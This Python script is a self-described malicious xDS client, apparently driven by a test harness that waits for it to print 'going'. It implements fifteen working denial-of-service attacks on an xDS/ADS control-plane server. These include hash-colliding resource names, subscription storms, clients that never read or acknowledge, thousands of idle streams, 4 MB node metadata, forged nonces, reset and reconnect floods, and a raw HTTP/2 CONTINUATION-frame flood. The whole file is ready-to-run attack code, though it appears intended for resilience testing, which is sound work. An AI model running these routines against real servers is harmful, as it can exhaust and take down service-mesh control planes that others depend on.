"""A client of xDS that means harm, as a process of its own: attacker.py ATTACK ADDRESS [ARGUMENTS].
It says "going" on standard output when it has begun, and goes on until it is killed."""

import itertools
import queue
import socket
import struct
import sys
import threading

import grpc
from envoy.config.core.v3 import base_pb2
from envoy.service.discovery.v3 import discovery_pb2
from google.rpc import status_pb2

ADS = "/envoy.service.discovery.v3.AggregatedDiscoveryService/"
TYPES = {
    "CDS": "type.googleapis.com/envoy.config.cluster.v3.Cluster",
    "EDS": "type.googleapis.com/envoy.config.endpoint.v3.ClusterLoadAssignment",
    "LDS": "type.googleapis.com/envoy.config.listener.v3.Listener",
    "RDS": "type.googleapis.com/envoy.config.route.v3.RouteConfiguration",
    "SDS": "type.googleapis.com/envoy.extensions.transport_sockets.tls.v3.Secret",
}
NODE = base_pb2.Node(id="attacker", cluster="attackers")


def channel(address):
    """A connection of its own."""
    return grpc.insecure_channel(address, options=[
        ("grpc.use_local_subchannel_pool", 1), ("grpc.max_receive_message_length", -1)])


def delta(type, subscribe=(), unsubscribe=(), nonce="", node=NODE):
    return discovery_pb2.DeltaDiscoveryRequest(
        node=node, type_url=TYPES[type], resource_names_subscribe=subscribe,
        resource_names_unsubscribe=unsubscribe, response_nonce=nonce)


def sotw(type, names=()):
    return discovery_pb2.DiscoveryRequest(node=NODE, type_url=TYPES[type], resource_names=names)


def call(connection, requests, method="DeltaAggregatedResources"):
    """The answers' iterator. A client that does not ask it for more does not read."""
    return connection.stream_stream(
        ADS + method, request_serializer=lambda m: m.SerializeToString(),
        response_deserializer=discovery_pb2.DeltaDiscoveryResponse.FromString)(requests)


def going():
    print("going", flush=True)


def forever(calls):
    """The iterators are kept: a call without a reference is cancelled."""
    going()
    threading.Event().wait()
    return calls


def after_some(requests, some):
    """Says that it is going after so many requests were taken from it."""
    for n, request in enumerate(requests):
        if n == some:
            going()
        yield request


# ---- attacks ----


def chosen(address, file):
    """One request with all the names of a file, which collide in a hash table without a secret, and
    then again and again on other streams."""
    names = open(file).read().split()
    while True:
        connection = channel(address)
        ended = call(connection, iter([delta("EDS", names), delta("SDS", names)]))
        for answer in itertools.islice(ended, 1):
            assert answer.removed_resources
        if names:
            going()
        connection.close()


def storm(address):
    """Subscribes and unsubscribes the same and other names without end, and never reads."""
    def requests(stream):
        yield delta("CDS")
        for n in itertools.count():
            names = [f"{stream}/{n}/{i}" for i in range(500)]
            yield delta("EDS", names)
            yield delta("EDS", (), names)

    connections = [channel(address) for _ in range(3)]
    return forever([call(c, requests(n)) for n, c in enumerate(connections)])


def lists(address):
    """State of the world: long lists of names, another one each time, without waiting for answers."""
    def requests():
        for n in itertools.count():
            yield sotw("EDS", [f"{n % 7}/{i}" for i in range(20000)])

    connections = [channel(address) for _ in range(3)]
    return forever([call(c, requests(), "StreamAggregatedResources") for c in connections])


def never_reads(address):
    """Asks for everything, on many streams, and takes no answer."""
    connections = [channel(address) for _ in range(4)]
    return forever([call(c, itertools.chain([delta(t) for t in ("CDS", "LDS")], iter(
        threading.Event().wait, True))) for c in connections for _ in range(100)])


def never_acknowledges(address):
    """Takes all answers and acknowledges none."""
    def read(answers):
        for _ in answers:
            pass

    connections = [channel(address) for _ in range(4)]
    for c in connections:
        for _ in range(50):
            answers = call(c, itertools.chain(
                [delta("CDS"), delta("LDS"), delta("RDS", ["ingress_http"])],
                iter(threading.Event().wait, True)))
            threading.Thread(target=read, args=[answers], daemon=True).start()
    return forever(connections)


def refuses_all(address):
    """Refuses everything, as one Envoy, and asks again on other streams."""
    answers = queue.SimpleQueue()

    def refuse(stream, requests):
        for answer in stream:
            requests.put(discovery_pb2.DeltaDiscoveryRequest(
                node=NODE, type_url=answer.type_url, response_nonce=answer.nonce,
                error_detail=status_pb2.Status(code=13, message="not to my taste")))
            answers.put(answer)

    connections = [channel(address) for _ in range(3)]
    for c in connections:
        requests = queue.SimpleQueue()
        for request in (delta("CDS"), delta("LDS"), delta("RDS", ["ingress_http"])):
            requests.put(request)
        stream = call(c, iter(requests.get, None))
        threading.Thread(target=refuse, args=[stream, requests], daemon=True).start()
    answers.get()
    return forever(connections)


def many_streams(address):
    """As many streams as one connection gives, on a few connections."""
    connections = [channel(address) for _ in range(4)]
    return forever([call(c, itertools.chain([delta("CDS")], iter(threading.Event().wait, True)))
                    for c in connections for _ in range(1024)])


def silent_streams(address):
    """Streams without a request."""
    connections = [channel(address) for _ in range(4)]
    return forever([call(c, iter(threading.Event().wait, True)) for c in connections
                    for _ in range(1000)])


def many_names(address):
    """Requests of 80,000 names, in both protocols, asked again and taken back on several connections;
    some streams end in between."""
    names = [f"many/{i * 7919 % 80000}" for i in range(80000)]

    def attack(method, requests):
        while True:
            connection = channel(address)
            answers = call(connection, iter(requests), method)
            next(answers, None)
            connection.close()

    versions = discovery_pb2.DeltaDiscoveryRequest(
        node=NODE, type_url=TYPES["RDS"], resource_names_subscribe=names[:60000],
        initial_resource_versions={n: "v" for n in names[:60000]})
    plans = [
        ("DeltaAggregatedResources", [delta("EDS", names), delta("EDS", (), names),
                                      delta("SDS", names)]),
        ("DeltaAggregatedResources", [versions]),
        ("StreamAggregatedResources", [sotw("EDS", names), sotw("CDS", names)]),
    ]
    for plan in plans:
        threading.Thread(target=attack, args=plan, daemon=True).start()
    return forever(plans)


def huge_nodes(address):
    """Nodes of four megabytes: metadata of one long text, or of hundreds of thousands of fields."""
    long, many = base_pb2.Node(id="long"), base_pb2.Node(id="many")
    long.metadata["x"] = "x" * 4000000
    for i in range(100000):
        many.metadata[str(i)] = i
    connections = [channel(address) for _ in range(3)]
    for n in itertools.count():
        for node in (long, many):
            answers = call(connections[n % 3], iter([delta("CDS", node=node)]))
            next(answers, None)
            answers.cancel()
        if n == 3:
            going()


def all_types(address):
    """Everything, by wildcards and by names, and no more of it, of each type in turn."""
    def requests():
        for n in itertools.count():
            for type in TYPES:
                yield delta(type, ["*", "ingress_http", f"a/{n}"], ["*"] if n % 3 else ["a"])
                yield delta(type, ["*"], [f"a/{n}", "ingress_http"])

    def read(answers):
        for _ in answers:
            pass

    for _ in range(4):
        threading.Thread(target=read, args=[call(channel(address), requests())],
                         daemon=True).start()
    return forever(None)


def nonces(address):
    """Accepts and refuses versions that it was never sent, and each answer many times, with long
    words."""
    words = "ingress_http " * 300

    def answers_to(stream, requests):
        for answer in stream:
            for nonce in (answer.nonce, answer.nonce, "0", "18446744073709551617", "-1", "x" * 100):
                for error in (None, status_pb2.Status(code=13, message=words)):
                    requests.put(discovery_pb2.DeltaDiscoveryRequest(
                        type_url=answer.type_url, response_nonce=nonce, error_detail=error,
                        resource_names_subscribe=["*"]))

    for _ in range(3):
        requests = queue.SimpleQueue()
        for type in ("CDS", "LDS"):
            requests.put(delta(type))
        requests.put(delta("RDS", ["ingress_http"]))
        stream = call(channel(address), iter(requests.get, None))
        threading.Thread(target=answers_to, args=[stream, requests], daemon=True).start()
    return forever(None)


def resets(address):
    """Streams that are opened, asked something and reset at once."""
    connections = [channel(address) for _ in range(4)]
    for n in itertools.count():
        call(connections[n % 4], iter([delta("CDS"), delta("EDS", ["x"])])).cancel()
        if n == 100:
            going()


def reconnects(address):
    """A new connection for each request."""
    for n in itertools.count():
        connection = channel(address)
        next(call(connection, iter([delta("CDS"), delta("LDS")])))
        connection.close()
        if n == 20:
            going()


def connect(address):
    if address.startswith("unix:"):
        s = socket.socket(socket.AF_UNIX)
        s.connect(address.removeprefix("unix:"))
        return s
    host, _, port = address.rpartition(":")
    return socket.create_connection((host, int(port)))


def continuation(address):
    """HEADERS without an end, and CONTINUATION frames for ever (RFC 9113, 6.10)."""
    def frame(kind, flags, payload):
        return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(
            ">I", 1) + payload

    def flood(s):
        # A literal header field without indexing, new name.
        field = b"\x00\x04junk\x7f\x81\x06" + b"x" * 1024
        try:
            while True:
                s.sendall(frame(9, 0, field * 12))
        except OSError:
            pass

    while True:
        floods = []
        for _ in range(4):
            s = connect(address)
            s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0")
            s.sendall(frame(1, 0, b"\x83\x86"))
            floods.append(threading.Thread(target=flood, args=[s], daemon=True))
            floods[-1].start()
        going()
        for f in floods:
            f.join()


if __name__ == "__main__":
    attacks = {f.__name__: f for f in (
        chosen, storm, lists, never_reads, never_acknowledges, refuses_all,
        many_streams, silent_streams, many_names, huge_nodes, all_types, nonces, resets,
        reconnects, continuation)}
    attacks[sys.argv[1].replace("-", "_")](*sys.argv[2:])
